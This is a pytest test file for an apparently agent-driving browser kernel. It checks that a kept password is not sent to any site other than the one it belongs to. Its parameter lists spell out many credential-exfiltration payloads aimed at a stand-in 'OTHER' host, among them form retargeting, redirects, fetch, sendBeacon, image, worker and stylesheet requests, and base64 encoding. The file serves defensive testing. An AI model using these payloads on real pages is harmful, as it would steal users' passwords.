"""What carries a secret to another site does not leave."""

from __future__ import annotations

from dataclasses import replace

import pytest

from stockade.policy.principal import Principal, Role
from tests.support.asking import page_says
from tests.support.callers import Caller
from tests.support.site import Site
from tests.support.waiting import until

VALUE = "Tr0ub4dor&3 xkcd"
SPELLED = ("Tr0ub4dor", "xkcd", "VHIwdWI0ZG9y", "54723075")


@pytest.fixture
async def keeper(caller: Caller) -> Caller:
    """An agent of a tenant whose operator keeps a password for one site."""
    tenant = f"tenant-of-{caller.principal.id}"
    operator = Principal("op", tenant=tenant, role=Role.OPERATOR)
    await caller.kernel.secrets.keep(operator, "PASSWORD", VALUE, [caller.site.url("")])
    for site in (caller.site, caller.site.other):
        site.page("/in", "<title>In</title>Welcome")
    site = caller.site
    away = {"Location": site.other.url("/in")}
    site.page("/307", "", status=307, headers=away)
    site.page("/308", "", status=308, headers=away)
    site.page("/302", "", status=302, headers=away)
    site.page("/twice", "", status=307, headers={"Location": "/307"})
    site.page(
        "/refreshed",
        f"""<script>document.write('<meta http-equiv=refresh content="0;url='
      + '{site.other.url("/in")}' + location.search + '">')</script>""",
    )
    site.page(
        "/telling",
        f"""<meta name=referrer content=unsafe-url><title>Told</title>
      <img src='{site.other.url("/in")}'>""",
    )
    return replace(caller, principal=replace(caller.principal, tenant=tenant))


def form(action: str, **attributes: str) -> str:
    given = {"method": "post", "action": action, **attributes}
    said = " ".join(f'{name}="{value}"' for name, value in given.items())
    return f"<form id=f {said}><input type=password name=pw><button>Sign in</button></form>"


def carried(site: Site) -> list[str]:
    """The requests that brought any of it."""
    texts = [f"{each.path}?{each.query} {each.headers} {each.body!r}" for each in site.requests]
    return [text for text in texts if any(part in text for part in SPELLED)]


ELSEWHERE = {
    "another action": form("OTHER/in"),
    "by GET": form("OTHER/in", method="get"),
    "as multipart": form("OTHER/in", enctype="multipart/form-data"),
    "as plain text": form("OTHER/in", enctype="text/plain"),
    "into a new tab": form("OTHER/in", target="_blank"),
    "into a frame": form("OTHER/in", target="there") + "<iframe name=there></iframe>",
    "sent on": form("/307"),
    "sent on for good": form("/308"),
    "sent on twice": form("/twice"),
    "by the button": form("/in").replace("<button", '<button formaction="OTHER/in"'),
    "by an image": form("/in").replace(
        "<button>",
        '<input type=image id=i alt=Go width=50 height=20 formaction="OTHER/in"><button hidden>',
    ),
    "by a button outside": form("/in")
    + '<button form=f formaction="OTHER/in" formmethod=get>Elsewhere</button>',
    "by another base": '<base href="OTHER/">' + form("in"),
    "by a page in between": form("/refreshed", method="get"),
    "by a page that names where it was": form("/telling", method="get"),
    "at the last moment": form("/in")
    + "<script>f.onsubmit = () => { f.action = 'OTHER/in' }</script>",
    "under another name": form("OTHER/in")
    + "<script>f.onformdata = (e) => e.formData.set('x', 'a' + e.formData.get('pw') + 'b')</script>",
    "in base64": form("OTHER/in")
    + "<script>f.onformdata = (e) => e.formData.set('pw', btoa(e.formData.get('pw')))</script>",
}


LATER = {"by a page in between", "by a page that names where it was"}


@pytest.mark.parametrize("way", ELSEWHERE)
async def test_a_form_that_leaves_the_secret_s_site_is_not_sent(keeper: Caller, way: str) -> None:
    other = keeper.site.other
    await keeper.show(ELSEWHERE[way].replace("OTHER", other.url("")))
    await keeper.ok("fill", selector="[name=pw]", value="<PASSWORD>")
    button = {"by an image": "#i", "by a button outside": "text=Elsewhere"}.get(way, "button")
    reply = await keeper.reply("click", selector=button)
    if way in LATER:
        # The page in between is its own site's, and is given it.
        await keeper.site.wait_asked("/telling" if "names" in way else "/refreshed")
        await keeper.ok("navigate", url=keeper.site.url("/in"))
        assert carried(other) == []
        return
    assert reply.error is not None, reply.text
    assert reply.error.code == "secret_refused"
    assert "was not sent" in reply.text
    assert VALUE not in reply.text
    # The page is still there, and knows how to send it where it belongs.
    assert "<PASSWORD>" in await keeper.text("snapshot")
    assert carried(other) == []


FRAME = """document.body.append(Object.assign(document.createElement('iframe'),
  {src: 'OTHER/in?' + encodeURIComponent(pw.value)}))"""
WORKER = """new Worker(window.URL.createObjectURL(new Blob([`fetch('OTHER/in', {method: 'POST',
  mode: 'no-cors', body: ${JSON.stringify(pw.value)}})`])))"""
SHEET = """document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet',
  href: 'OTHER/in?' + encodeURIComponent(pw.value)}))"""


@pytest.mark.parametrize(
    "send",
    [
        "fetch('OTHER/in', {method: 'POST', mode: 'no-cors', body: pw.value})",
        "fetch('OTHER/in?' + new URLSearchParams({pw: pw.value}), {mode: 'no-cors'})",
        "fetch('OTHER/in', {method: 'POST', mode: 'no-cors', body: new Blob([pw.value])})",
        "fetch('/307', {method: 'POST', mode: 'no-cors', body: pw.value})",
        "navigator.sendBeacon('OTHER/in', pw.value)",
        "new Image().src = 'OTHER/in?' + encodeURIComponent(pw.value)",
        "location.href = 'OTHER/in?' + encodeURIComponent(pw.value)",
        "window.open('OTHER/in?' + encodeURIComponent(btoa(pw.value)))",
        "new EventSource('OTHER/in?' + encodeURIComponent(pw.value))",
        "location.replace('OTHER/in#' + pw.value + '?' + btoa(pw.value))",
        "fetch('OTHER/in', {mode: 'no-cors', headers: {accept: pw.value}})",
        FRAME,
        WORKER,
        SHEET,
    ],
)
async def test_nor_does_a_script_of_the_page_send_it(keeper: Caller, send: str) -> None:
    other = keeper.site.other
    code = send.replace("OTHER", other.url(""))
    await keeper.show(
        f'<input type=password id=pw name=pw><button onclick="{code.replace(chr(34), "&quot;")};'
        "document.title = 'sent'\">Go</button>"
    )
    await keeper.ok("fill", selector="#pw", value="<PASSWORD>")
    await keeper.reply("click", selector="button")
    await until(lambda: page_says(keeper, "() => document.title === 'sent'"))
    # What follows shows that requests of this page do arrive there.
    await page_says(
        keeper, f"() => fetch('{other.url('/in')}', {{mode: 'no-cors'}}).then(() => true)"
    )
    await other.wait_asked("/in")
    assert carried(other) == []


async def test_where_it_belongs_it_is_sent(keeper: Caller) -> None:
    await keeper.show(form("/in"))
    await keeper.ok("fill", selector="[name=pw]", value="<PASSWORD>")
    done = await keeper.ok("click", selector="button")
    assert done["navigation"]["changed"]
    [sent] = keeper.site.asked("/in")
    assert b"Tr0ub4dor" in sent.body


async def test_what_a_login_leads_to_elsewhere_is_as_it_was(keeper: Caller) -> None:
    """Signing in at one site and being sent on to another, without the secret."""
    await keeper.show(form("/302"))
    await keeper.ok("fill", selector="[name=pw]", value="<PASSWORD>")
    await keeper.ok("click", selector="button")
    assert "Welcome" in await keeper.text("snapshot")
    assert len(keeper.site.other.asked("/in")) == 1
    assert carried(keeper.site.other) == []


async def test_large_bodies_are_looked_through_too(keeper: Caller) -> None:
    other = keeper.site.other
    padding = "<script>f.onformdata = (e) => e.formData.set('more', 'x'.repeat(300000))</script>"
    await keeper.show(form(other.url("/in"), enctype="multipart/form-data") + padding)
    await keeper.ok("fill", selector="[name=pw]", value="<PASSWORD>")
    await keeper.reply("click", selector="button")
    assert carried(other) == []
    await keeper.show(form("/in", enctype="multipart/form-data") + padding)
    await keeper.ok("fill", selector="[name=pw]", value="<PASSWORD>")
    await keeper.ok("click", selector="button")
    assert len(carried(keeper.site)) == 1
